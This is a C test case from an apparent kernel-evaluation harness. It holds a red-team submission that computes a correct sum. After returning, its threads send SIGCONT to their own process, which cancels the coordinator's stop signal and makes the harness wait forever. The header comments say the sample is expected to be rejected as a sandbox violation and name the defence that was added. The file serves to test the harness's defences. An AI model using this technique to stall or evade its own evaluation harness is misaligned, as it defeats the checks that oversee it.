/* kforge-test: task=sum expect=rejected reason=sandbox_violation threat=17 */
/* From a red-team pass: SIGCONT to itself after the answer kept the worker from ever stopping, and the coordinator waited for the stop forever. Defence: job-control signals to itself are forbidden, and the wait for the freeze has a 2 s deadline. */
/* kforge red team: hang the coordinator. The kernel is correct and done inside the
 * call; after it returns, helper threads send SIGCONT to their own process for 50 ms,
 * which cancels the coordinator's post-DONE SIGSTOP. Then every thread sleeps. The
 * coordinator waits in waitid(WSTOPPED|WEXITED) with no deadline: forever, using no CPU
 * in the worker, so neither the CPU rlimit nor the wall deadline fires. Task: sum. */
#define _GNU_SOURCE
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <linux/futex.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define NGUARD 2
static _Atomic int gen;
static pid_t me;

static uint64_t now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000000000ull + (uint64_t)t.tv_nsec;
}

static void *guard(void *arg) {
    int seen = 0;
    (void)arg;
    for (;;) {
        int g;
        while ((g = atomic_load(&gen)) == seen)
            syscall(SYS_futex, &gen, FUTEX_WAIT_PRIVATE, seen, 0, 0, 0);
        seen = g;
        uint64_t end = now() + 50000000ull;
        while (now() < end) syscall(SYS_kill, me, SIGCONT);
    }
    return 0;
}

void reduce_sum(const float *x, float *out, int64_t n) {
    static int started;
    if (!started) {
        me = getpid();
        pthread_t t;
        for (int i = 0; i < NGUARD; i++) pthread_create(&t, 0, guard, 0);
        started = 1;
    }
    double s = 0;
    for (int64_t i = 0; i < n; i++) s += x[i];
    out[0] = (float)s;
    atomic_fetch_add(&gen, 1);
    syscall(SYS_futex, &gen, FUTEX_WAKE_PRIVATE, 1 << 30, 0, 0, 0);
}
